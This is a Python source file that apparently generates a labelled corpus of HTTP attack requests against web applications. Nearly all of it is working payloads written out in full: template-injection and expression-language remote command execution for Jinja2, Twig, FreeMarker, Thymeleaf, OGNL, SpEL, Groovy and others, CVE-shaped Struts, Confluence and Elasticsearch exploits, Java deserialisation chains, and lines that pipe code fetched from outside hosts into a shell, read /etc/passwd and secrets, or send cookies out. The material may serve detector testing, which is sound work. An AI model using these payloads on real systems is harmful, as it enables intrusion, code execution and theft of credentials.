        Site("query", "php", "/guestbook/view.php", {"s": "author", "n": "entry", "o": "order"}),
    ],
    "clickhouse": [
        Site("query", "go", "/api/v1/events/count", {"s": "event", "n": "project_id", "o": "order"}, tmpl=[("from", "2024-06-01"), ("to", "2024-06-30")]),
        Site("json", "api", "/api/funnels/compute", {"s": "step", "n": "funnel_id", "o": "sort"},
             tmpl={"funnel_id": 31, "steps": ["signup", "§"], "window": "7d"}),
        Site("query", "data", "/dashboards/widget/data", {"s": "country", "n": "widget", "o": "orderBy"}),
    ],
    "snowflake": [
        Site("json", "data", "/api/reports/run", {"s": "segment", "n": "report_id", "o": "sort"},
             tmpl={"report_id": 118, "params": {"segment": "§", "quarter": "2024Q2"}}),
        Site("query", "api", "/v1/metrics/revenue", {"s": "region", "n": "account", "o": "order_by"}),
    ],
    "db2": [
        Site("query", "jee", "/banking/accounts/list.jsp", {"s": "branch", "n": "acctNo", "o": "sortCol"}),
        Site("form", "spring", "/insurance/quote", "zipCode", tmpl=[("product", "HOME"), ("term", "12")]),
        Site("json", "spring", "/api/policies/search", {"s": "holderName", "n": "policyId", "o": "sort"}, tmpl={"holderName": "§"}),
    ],
    "cockroach": [
        Site("query", "go", "/api/v1/accounts", {"s": "email", "n": "id", "o": "sort"}),
        Site("json", "api", "/v1/ledger/entries:search", {"s": "memo", "n": "account", "o": "orderBy"}, tmpl={"memo": "§", "limit": 100}),
    ],
    "cassandra": [
        Site("query", "spring", "/api/timeline", {"s": "user", "n": "bucket", "o": "sort"}),
        Site("json", "express", "/api/profiles", {"s": "username", "n": "id", "o": "sort"}, tmpl={"username": "§", "bio": "hello"}),
    ],
    "spark": [
        Site("query", "data", "/api/reports/revenue", {"s": "region", "n": "year", "o": "order"}),
        Site("json", "api", "/api/2.0/lakehouse/insights", {"s": "product_line", "n": "store_id", "o": "sort"},
             tmpl={"metric": "net_sales", "filters": {"product_line": "§"}}),
    ],
    "bigquery": [
        Site("query", "flask", "/insights/cohorts", {"s": "channel", "n": "cohort", "o": "order"}),
        Site("json", "data", "/api/explore/query", {"s": "campaign", "n": "advertiser_id", "o": "sort"},
             tmpl={"view": "ad_performance", "campaign": "§", "date_range": "last_28_days"}),
        Site("header", "api", "/v2/usage", {"s": "X-Customer-Id", "n": "X-Customer-Id", "o": "X-Sort"}),
    ],
}

CQL_LOGIN = Site("form", "spring", "/login", "username", tmpl=[("password", "*/and password>'")])


def gen_sql(em):
    for dialect, rows in SQL.items():
        sites = SQL_SITES[dialect]
        for i, (ctx, tech, payload) in enumerate(rows):
            copies = 2 if i % 3 == 0 else 1
            em.add("sqli", dialect, sites, payload, copies, desc="%s: %s" % (dialect, tech), ctx=ctx)
    em.add("sqli", "cassandra", [CQL_LOGIN], "admin'/*", desc="cassandra: comment spanning two fields of a login query")


# ============================================================================ template engines

SSTI = {}
SSTI["jinja2"] = [
    ("cycler globals os.popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("self.__init__ builtins __import__", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("MRO subclasses walk", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("attr() filters with \\x5f escapes", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("for loop over subclasses to catch_warnings", "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen(\"id\").read() }}{% endif %}{% endfor %}"),
    ("lipsum globals", "{{ lipsum.__globals__['os'].popen('wget -qO- http://203.0.113.20/j|sh').read() }}"),
    ("config items (secret key)", "{{ config.items() }}"),
    ("get_flashed_messages builtins open", "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("set + namespace globals", "{% set x = namespace.__init__.__globals__ %}{{ x.os.environ }}"),
]
SSTI["twig"] = [
    ("registerUndefinedFilterCallback (Twig 1)", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("filter('system') (Twig 3)", "{{['id']|filter('system')}}"),
    ("map('passthru')", "{{['cat /etc/passwd']|map('passthru')|join}}"),
    ("sort('system')", "{{['id','']|sort('system')}}"),
    ("Symfony app.request.server", "{{ app.request.server.all|join(',') }}"),
    ("reduce with a system arrow", "{{ [0]|reduce((c, x) => 'id'|filter('system')) }}"),
]
SSTI["freemarker"] = [
    ("Execute ?new()", "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }"),
    ("inline Execute ?new()", "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}"),
    ("square-bracket syntax ObjectConstructor", "[#assign oc='freemarker.template.utility.ObjectConstructor'?new()]${oc(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("protectionDomain file read", "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}"),
    ("api built-in classloader", "<#assign cl=object?api.class.protectionDomain.classLoader><#assign c=cl.loadClass(\"freemarker.template.utility.Execute\")>${c.newInstance()(\"id\")}"),
]
SSTI["velocity"] = [
    ("#set class.forName Runtime", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"),
    ("ClassTool inspect", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\")"),
    ("getClass().forName chain", "#set($s=\"\")#set($p=$s.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"curl http://203.0.113.21/v\"))"),
    ("InputStream read loop", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\").getInputStream()"),
]
SSTI["thymeleaf"] = [
    ("view-name preprocessing __${}__::", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("inlined [[${}]]", "[[${T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwned')}]]"),
    ("Scanner over exec output", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x"),
    ("selection *{} with IOUtils", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
]
SSTI["pebble"] = [
    ("TYPE.forName methods invoke", "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes]).toArray()) }}"),
    ("getClass().forName Runtime", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('ls -la') }}"),
]
SSTI["handlebars"] = [
    ("string.sub constructor chain", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("lookup constructor prototype", "{{#with this as |o|}}{{#with (lookup o \"constructor\")}}{{#with (lookup this \"prototype\")}}{{this}}{{/with}}{{/with}}{{/with}}"),
    ("process.env via constructor.constructor", "{{#with (lookup (lookup this \"constructor\") \"constructor\") as |F|}}{{F \"return process.env\"}}{{/with}}"),
]
SSTI["mustache"] = [
    ("partial path traversal", "{{> ../../../../../etc/passwd}}"),
    ("delimiter change into ERB-style", "{{=<% %>=}}<% process.mainModule.require('child_process').execSync('id') %>"),
]
SSTI["lodash"] = [
    ("_.template interpolate", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("_.template evaluate", "<% global.process.mainModule.require('child_process').exec('curl http://203.0.113.22/l|sh') %>"),
    ("underscore template", "<%= require('fs').readFileSync('/etc/passwd','utf8') %>"),
]
SSTI["erb"] = [
    ("system()", "<%= system('id') %>"),
    ("backticks", "<%= `cat /etc/passwd` %>"),
    ("IO.popen", "<%= IO.popen('id').readlines() %>"),
    ("File.read", "<%= File.read('/proc/self/environ') %>"),
    ("Dir.entries", "<%= Dir.entries('/') %>"),
    ("string interpolation %x()", "#{%x(id)}"),
]
SSTI["smarty"] = [
    ("function call in a tag", "{system('id')}"),
    ("{php} block (Smarty 2)", "{php}echo `id`;{/php}"),
    ("Smarty_Internal_Write_File", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}"),
    ("{if system()}", "{if system('cat /etc/passwd')}{/if}"),
    ("{fetch file=}", "{fetch file='/etc/passwd'}"),
]
SSTI["mako"] = [
    ("<% import os %>", "<%\nimport os\nx=os.popen('id').read()\n%>\n${x}"),
    ("self.module.cache.util.os", "${self.module.cache.util.os.system('id')}"),
    ("runtime util os popen", "${self.template.module.runtime.util.os.popen('cat /etc/passwd').read()}"),
]
SSTI["tornado"] = [
    ("{% import os %}", "{% import os %}{{ os.popen('id').read() }}"),
    ("handler.settings (cookie_secret)", "{{ handler.settings }}"),
    ("raw __import__", "{% raw __import__('os').popen('id').read() %}"),
]
SSTI["go"] = [
    ("echo Context File", "{{ .File \"/etc/passwd\" }}"),
    ("sprig env", "{{ env \"AWS_SECRET_ACCESS_KEY\" }}"),
    ("define + template XSS", "{{define \"T1\"}}<script>fetch('//203.0.113.23/?c='+document.cookie)</script>{{end}}{{template \"T1\"}}"),
    ("range over request headers", "{{ range $k, $v := .Request.Header }}{{ $k }}={{ $v }};{{ end }}"),
]
SSTI["razor"] = [
    ("Process.Start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")"),
    ("File.ReadAllText", "@System.IO.File.ReadAllText(\"C:\\\\inetpub\\\\wwwroot\\\\web.config\")"),
    ("code block with ProcessStartInfo", "@{ var p = new System.Diagnostics.ProcessStartInfo(\"powershell\", \"-c iwr http://203.0.113.24/r.ps1|iex\"); System.Diagnostics.Process.Start(p); }"),
]
SSTI["liquid"] = [
    ("include traversal", "{% include '../../../../../etc/passwd' %}"),
    ("LiquidJS render of an absolute path", "{% render '/etc/passwd' %}"),
    ("assign + include of a variable path", "{%- assign p = '../../config/secrets.yml' -%}{% include p %}"),
]
SSTI["nunjucks"] = [
    ("range.constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("cycler.constructor env dump", "{{ cycler.constructor(\"return process.env\")() | dump }}"),
    ("joiner.constructor", "{{ joiner.constructor(\"return require('fs').readFileSync('/etc/passwd','utf8')\")() }}"),
]
SSTI["dot"] = [
    ("{{= }} interpolation", "{{= global.process.mainModule.require('child_process').execSync('id') }}"),
    ("evaluate block", "{{ var x = global.process.mainModule.require('child_process').execSync('cat /etc/passwd').toString(); }}{{=x}}"),
]
SSTI["ejs"] = [
    ("<%= %> require", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("<%- %> unescaped fs read", "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>"),
]
SSTI["pug"] = [
    ("#{} with constructor._load", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"),
    ("unbuffered code line", "- var x = root.process.mainModule.require('child_process').execSync('id')\n= x"),
]

SSTI_SITES = {
    "python": [
        Site("query", "flask", "/greeting", "name"),
        Site("json", "flask", "/api/invoices/preview", "note", tmpl={"customer_id": 88, "note": "§", "currency": "EUR"}),
        Site("form", "django", "/account/profile/", "display_name", tmpl=[("email", "ana.k@example.com"), ("timezone", "Europe/Berlin")]),
        Site("multipart", "flask", "/reports/export", "title", tmpl=[("title", "§", None, None), ("format", "pdf", None, None)]),
        Site("cookie", "flask", "/welcome", "nick"),
    ],
    "php": [
        Site("form", "php", "/contact/send", "subject", tmpl=[("email", "m.rossi@example.com"), ("message", "Hello")]),
        Site("query", "laravel", "/newsletter/preview", "headline"),
        Site("json", "php", "/api/email-templates/render", "body", tmpl={"template": "order_confirmation", "body": "§"}),
        Site("query", "wp", "/", "s"),
    ],
    "java": [
        Site("query", "spring", "/doc/view", "lang"),
        Site("form", "jee", "/support/ticket", "summary", tmpl=[("priority", "P3"), ("product", "Portal")]),
        Site("json", "spring", "/api/notifications/preview", "message", tmpl={"channel": "email", "message": "§", "locale": "en"}),
        Site("path", "spring", "/doc/§", None),
        Site("header", "spring", "/api/welcome", "X-Display-Name"),
    ],
    "node": [
        Site("query", "express", "/render", "name"),
        Site("json", "express", "/api/cards/preview", "greeting", tmpl={"template": "birthday", "greeting": "§", "to": "Sam"}),
        Site("form", "express", "/feedback", "comment", tmpl=[("rating", "4")]),
        Site("cookie", "express", "/home", "theme"),
    ],
    "ruby": [
        Site("form", "rails", "/messages", "message[body]", tmpl=[("message[to]", "support"), ("commit", "Send")]),
        Site("json", "rails", "/api/v1/labels/preview", "template", tmpl={"label": {"template": "§", "size": "4x6"}}),
        Site("query", "rails", "/search", "q"),
    ],
    "dotnet": [
        Site("form", "aspnet", "/Templates/Preview", "Body", tmpl=[("Name", "Welcome mail")]),
        Site("json", "api", "/api/documents/render", "template", tmpl={"template": "§", "model": {"name": "Ada"}}),
    ],
    "go": [
        Site("query", "go", "/preview", "tpl"),
        Site("json", "go", "/api/alerts/templates/test", "text", tmpl={"name": "disk", "text": "§"}),
    ],
    "liquid": [
        Site("json", "api", "/admin/api/2024-04/pages.json", "body_html", tmpl={"page": {"title": "FAQ", "body_html": "§"}}),
        Site("form", "express", "/storefront/note", "note"),
    ],
}
ENGINE_SITES = {"jinja2": "python", "mako": "python", "tornado": "python", "twig": "php", "smarty": "php",
                "freemarker": "java", "velocity": "java", "thymeleaf": "java", "pebble": "java",
                "handlebars": "node", "mustache": "node", "lodash": "node", "nunjucks": "node", "dot": "node",
                "ejs": "node", "pug": "node", "erb": "ruby", "razor": "dotnet", "go": "go", "liquid": "liquid"}


def gen_ssti(em):
    for engine, rows in SSTI.items():
        sites = SSTI_SITES[ENGINE_SITES[engine]]
        # Each engine walks its family's sites from its own offset.
        em.cursor.setdefault(engine, len(em.out) % len(sites))
        for i, (tech, payload) in enumerate(rows):
            em.add("ssti", engine, sites, payload, 2 if i % 3 == 0 else 1, desc="%s: %s" % (engine, tech))
    # EJS render-option pollution through the query string (CVE-2022-29078 shape).
    for i, tail in enumerate([
        "settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('curl 203.0.113.25/e|sh');s",
        "settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process.mainModule.constructor._load('child_process').execSync('id');",
    ]):
        pairs = [tuple(p.split("=", 1)) for p in tail.split("&")]
        uri = "/page?lang=en&" + "&".join("%s=%s" % (quote(a, safe="[]"), quote(b, safe="")) for a, b in pairs)
        em.rec("ssti", "ejs", "GET", uri, headers_for("express", i), desc="ejs: view options pollution via query")
    # lodash _.template options (CVE-2021-23337: the variable option is compiled).
    em.rec("ssti", "lodash", "POST", "/api/mail/compile",
           headers_for("express", 3, ctype="application/json"),
           jdump({"template": "Hi <%= name %>", "options": {"variable": "x=global.process.mainModule.require('child_process').execSync('id')"}}),
           desc="lodash: _.template variable option")
    # Thymeleaf view name from the URL path (Spring fragment expression).
    em.rec("ssti", "thymeleaf", "GET", "/path/__$%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__::.x",
           headers_for("spring", 2), desc="thymeleaf: fragment expression in the path")


# ============================================================================ expression languages

EL = []  # (dialect, category, technique, payload, site family)
EL += [
    ("spel", "java", "T(Runtime) exec", "T(java.lang.Runtime).getRuntime().exec('id')", "spring"),
    ("spel", "java", "#{} template", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}", "spring"),
    ("spel", "java", "ProcessBuilder with an inline list", "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()", "spring"),
    ("spel", "java", "''.class.forName", "''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')", "spring"),
    ("spel", "java", "StreamUtils copy of exec output", "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{'id'}).getInputStream()))}", "spring"),
    ("spel", "java", "T(System).getenv()", "${T(java.lang.System).getenv()}", "spring"),
    ("ognl", "java", "_memberAccess allowStaticMethodAccess", "%{(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('id'))}", "struts"),
    ("ognl", "java", "@Runtime@ static call in ${}", "${@java.lang.Runtime@getRuntime().exec('id')}", "struts"),
    ("ognl", "java", "DEFAULT_MEMBER_ACCESS ProcessBuilder (S2-045 body)", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())}", "struts"),
    ("ognl", "java", "#context output stream write", "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'cat','/etc/passwd'})).redirectErrorStream(true).start(),#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),#e=new char[50000],#d.read(#e),#f=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#f.getWriter().println(new java.lang.String(#e)),#f.getWriter().flush(),#f.getWriter().close()}", "struts"),
    ("mvel", "java", "Runtime exec", "java.lang.Runtime.getRuntime().exec(\"id\");", "rules"),
    ("mvel", "java", "@{} template", "@{Runtime.getRuntime().exec('curl http://203.0.113.30/m')}", "rules"),
    ("mvel", "java", "import + Scanner", "import java.util.*; import java.io.*; new Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next();", "rules"),
    ("jexl", "java", "getClass().forName", "''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')", "rules"),
    ("jexl", "java", "JEXL3 new()", "new('java.lang.ProcessBuilder', ['bash','-c','id']).start()", "rules"),
    ("jexl", "java", "script with a loop over props", "var p = ''.class.forName('java.lang.System').getProperties(); for (var k : p.keySet()) { k }", "rules"),
    ("javael", "java", "${} Runtime via getMethods()[6]", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethods()[6].invoke(\"\".getClass().forName(\"java.lang.Runtime\")).exec(\"id\")}", "jee"),
    ("javael", "java", "#{facesContext} redirect", "#{facesContext.externalContext.redirect('https://attacker.example/')}", "jee"),
    ("javael", "java", "pageContext session attribute", "${pageContext.request.getSession().setAttribute(\"role\",\"admin\")}", "jee"),
    ("javael", "java", "bean-validation message ScriptEngine", "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}", "jee"),
    ("javael", "java", "applicationScope dump", "${applicationScope}", "jee"),
    ("groovy", "java", "String.execute().text", "println \"id\".execute().text", "groovy"),
    ("groovy", "java", "list execute", "def proc = ['bash','-c','curl -s http://203.0.113.31/g | sh'].execute(); proc.waitFor()", "groovy"),
    ("groovy", "java", "@ASTTest at compile time", "@groovy.transform.ASTTest(value={ assert java.lang.Runtime.getRuntime().exec(\"id\") })\ndef x", "groovy"),
    ("groovy", "java", "@Grab of a remote jar", "@GrabResolver(name='x', root='http://203.0.113.31/repo/')\n@Grab(group='org.x', module='payload', version='1')\nimport Payload", "groovy"),
    ("groovy", "java", "Eval.me", "Eval.me('new File(\"/etc/passwd\").text')", "groovy"),
    ("nashorn", "java", "Java.type Runtime", "Java.type('java.lang.Runtime').getRuntime().exec('id')", "script"),
    ("nashorn", "java", "engine.factory re-eval", "this.engine.factory.scriptEngine.eval('java.lang.Runtime.getRuntime().exec(\"id\")')", "script"),
    ("nashorn", "java", "load mozilla_compat + importPackage", "load('nashorn:mozilla_compat.js'); importPackage(java.lang); Runtime.getRuntime().exec('id');", "script"),
    ("nodejs", "rce", "vm escape via this.constructor", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')", "node"),
    ("nodejs", "rce", "require child_process", "require('child_process').exec('curl http://203.0.113.32/n|sh')", "node"),
    ("nodejs", "rce", "process.binding spawn_sync", "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1}]})", "node"),
    ("python", "rce", "__import__ os.system", "__import__('os').system('id')", "python"),
    ("python", "rce", "compile + exec", "eval(compile('import os;os.system(\"id\")','x','exec'))", "python"),
    ("python", "rce", "subclasses walk to Popen", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['id'],stdout=-1).communicate()", "python"),
    ("python", "rce", "getattr with split names", "getattr(__import__('o'+'s'),'sys'+'tem')('id')", "python"),
    ("python", "rce", "__builtins__ dict __import__", "__builtins__.__dict__['__imp'+'ort__']('subprocess').check_output(['cat','/etc/passwd'])", "python"),
    ("python", "rce", "exec of subprocess.run", "exec(\"import subprocess;subprocess.run(['sh','-c','curl 203.0.113.33|sh'])\")", "python"),
    ("ruby", "rce", "system()", "system('id')", "ruby"),
    ("ruby", "rce", "Kernel#open pipe", "open('|cat /etc/passwd').read", "ruby"),
    ("ruby", "rce", "%x() literal", "%x(id)", "ruby"),
    ("ruby", "rce", "send(:system)", "Object.const_get(:Kernel).send(:system, 'id')", "ruby"),
    ("ruby", "rce", "IO.popen", "IO.popen(['sh','-c','curl 203.0.113.34|sh']).read", "ruby"),
    ("ruby", "rce", "instance_eval of a built string", "instance_eval('sys'+'tem(\"id\")')", "ruby"),
]

EL_SITES = {
    "spring": [
        Site("query", "spring", "/api/products", "sort"),
        Site("header", "api", "/functionRouter", "spring.cloud.function.routing-expression", method="POST", tmpl="hello"),
        Site("json", "spring", "/actuator/gateway/routes/hacktest", "filters",
             tmpl={"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": "§"}}],
                   "uri": "http://example.com"}),
        Site("form", "spring", "/api/search", "q", tmpl=[("page", "0")]),
        Site("json", "spring", "/api/rules/validate", "condition", tmpl={"name": "discount", "condition": "§"}),
    ],
    "struts": [
        Site("header", "jee", "/struts2-showcase/index.action", "Content-Type", method="POST", tmpl="x"),
        Site("form", "jee", "/struts2-showcase/employee/save.action", "name", tmpl=[("age", "33")]),
        Site("path", "jee", "/§/", None),
        Site("query", "jee", "/orders/list.action", "message"),
    ],
    "rules": [
        Site("json", "api", "/api/v1/rules", "expression", tmpl={"name": "vip-discount", "expression": "§", "enabled": True}),
        Site("form", "jee", "/workflow/condition/test", "expr"),
        Site("json", "spring", "/api/alerts/conditions", "when", tmpl={"metric": "orders", "when": "§"}),
    ],
    "jee": [
        Site("form", "jee", "/faces/register.xhtml", "form:email", tmpl=[("form:name", "Li Wei"), ("javax.faces.ViewState", "-3207461589471265874:1903716581823341162")]),
        Site("query", "jee", "/portal/error.jsp", "msg"),
        Site("json", "spring", "/api/users", "nickname", tmpl={"email": "x@example.com", "nickname": "§"}),
    ],
    "groovy": [
        Site("form", "jee", "/script", "script", tmpl=[("Jenkins-Crumb", "b4c2f0e1a9d8")]),
        Site("query", "jee", "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript", "value", tmpl=[("sandbox", "true")]),
        Site("json", "api", "/api/pipelines/validate", "script", tmpl={"script": "§"}),
    ],
    "script": [
        Site("json", "api", "/api/transform/preview", "script", tmpl={"language": "javascript", "script": "§", "input": {"a": 1}}),
        Site("form", "jee", "/admin/scripting/run", "code", tmpl=[("engine", "nashorn")]),
    ],
    "node": [
        Site("json", "express", "/api/calc", "formula", tmpl={"formula": "§"}),
        Site("query", "express", "/api/compute", "expr"),
    ],
    "python": [
        Site("query", "flask", "/calc", "expr"),
        Site("json", "flask", "/api/v1/columns/derived", "formula", tmpl={"name": "margin", "formula": "§"}),
        Site("form", "django", "/tools/evaluate/", "expression"),
    ],
    "ruby": [
        Site("query", "rails", "/admin/reports/custom", "formula"),
        Site("json", "rails", "/api/v1/webhooks/test", "transform", tmpl={"transform": "§"}),
    ],
}


def gen_el(em):
    for i, (dialect, cat, tech, payload, fam) in enumerate(EL):
        em.add(cat, dialect, EL_SITES[fam], payload, 2 if i % 4 == 0 else 1, desc="%s: %s" % (dialect, tech))
    # Confluence OGNL in the URI (CVE-2022-26134 shape).
    ognl = "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}"
    em.rec("java", "ognl", "GET", "/" + quote(ognl, safe="") + "/", headers_for("jee", 1), desc="ognl: Confluence URI namespace")
    # Nexus Repository EL in a role list (CVE-2020-10199 shape).
    em.rec("java", "javael", "POST", "/service/extdirect", headers_for("jee", 2, ctype="application/json"),
           jdump({"action": "coreui_User", "method": "update", "data": [{"userId": "jdoe", "version": "1", "firstName": "J", "lastName": "D",
                  "email": "jdoe@example.com", "status": "active", "roles": ["$\\c{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/nx')}"]}],
                  "type": "rpc", "tid": 28}), desc="javael: Nexus role with $\\c{} EL")
    # Elasticsearch 1.x dynamic scripts (MVEL, CVE-2014-3120) and Groovy (CVE-2015-1427).
    em.rec("nosqli", "elasticsearch", "POST", "/_search?pretty", headers_for("api", 4, ctype="application/json"),
           jdump({"size": 1, "query": {"filtered": {"query": {"match_all": {}}}},
                  "script_fields": {"x": {"script": "import java.util.*;\nimport java.io.*;\nnew Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next();"}}}),
           desc="elasticsearch: MVEL script_fields")
    em.rec("nosqli", "elasticsearch", "POST", "/products/_search", headers_for("api", 5, ctype="application/json"),
           jdump({"size": 1, "script_fields": {"lupin": {"lang": "groovy", "script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"cat /etc/passwd\").getText()"}}}),
           desc="elasticsearch: Groovy sandbox escape")


# ============================================================================ deserialisation

def b64(b):
    return base64.b64encode(b).decode()


AO_INNER = 'x:i:0;a:1:{i:0;O:8:"Backdoor":1:{s:3:"cmd";s:2:"id";}};m:a:0:{}'


def gen_deser(em):
    k = 0

    def nk():
        nonlocal k
        k += 1
        return k

    # --- Java serialized streams
    cc6 = java_cc("curl -s http://203.0.113.40/j.sh -o /tmp/j.sh && sh /tmp/j.sh", 6)
    cc5 = java_cc("bash -c {echo,aWQgPiAvdG1wL3B3bmVk}|{base64,-d}|{bash,-i}", 5)
    urldns = java_urldns("jx7q2.oast.example")
    jndi = java_spring_jndi("ldap://203.0.113.41:1389/Exploit")
    em.rec("java", "java-serialized", "GET", "/account/home", headers_for("spring", nk(), cookie_extra="rememberMe=" + b64(cc6)),
           desc="java-serialized: CommonsCollections6 in a remember-me cookie (base64)")
    em.rec("java", "java-serialized", "POST", "/faces/orders.xhtml", headers_for("jee", nk(), ctype="application/x-www-form-urlencoded"),
           form([("j_id1", "j_id1"), ("orders:search", "Search"), ("javax.faces.ViewState", b64(gzip.compress(cc5, mtime=0)))]),
           desc="java-serialized: CommonsCollections5 gzip+base64 in an unencrypted JSF ViewState")
    em.rec("java", "java-serialized", "POST", "/api/session/restore", headers_for("api", nk(), ctype="application/json"),
           jdump({"state": cc6.hex(), "client": "desktop-3.2"}), desc="java-serialized: hex stream in JSON")
    em.rec("java", "java-serialized", "GET", "/api/profile", headers_for("spring", nk(), extra=[("X-Session-State", b64(urldns))]),
           desc="java-serialized: URLDNS probe in a header")
    em.rec("java", "java-serialized", "POST", "/remoting/OrderService", headers_for("jee", nk(), ctype="application/json"),
           jdump({"payload": b64(jndi)}), desc="java-serialized: JdbcRowSetImpl JNDI stream in base64")
    em.raw("java", "java-serialized", raw_request("POST", "/invoker/JMXInvokerServlet",
           [["Host", "erp.example.com"], ["User-Agent", "Java/1.8.0_392"], ["Accept", "*/*"],
            ["Content-Type", "application/x-java-serialized-object; class=org.jboss.invocation.MarshalledValue"]], cc5),
           desc="java-serialized: raw CommonsCollections5 stream to a JBoss invoker")
    em.raw("java", "java-serialized", raw_request("POST", "/spring-remoting/AccountService",
           [["Host", "hr.example.net"], ["User-Agent", "Apache-HttpClient/4.5.14 (Java/11.0.22)"], ["Accept", "*/*"],
            ["Content-Type", "application/x-java-serialized-object"]], urldns),
           desc="java-serialized: raw URLDNS stream to a Spring HTTP invoker")
    em.rec("java", "java-serialized", "POST", "/upload/import", headers_for("spring", nk(), ctype="application/x-www-form-urlencoded"),
           form([("format", "bin"), ("data", b64(cc6))]), desc="java-serialized: base64 stream in a form field")

    # --- Jackson / Fastjson polymorphic typing, SnakeYAML, XStream, XMLDecoder
    poly = [
        ("jackson", "/api/settings", {"name": "ui", "value": ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://203.0.113.41:1389/Obj", "autoCommit": True}]}, "default typing array form JdbcRowSetImpl"),
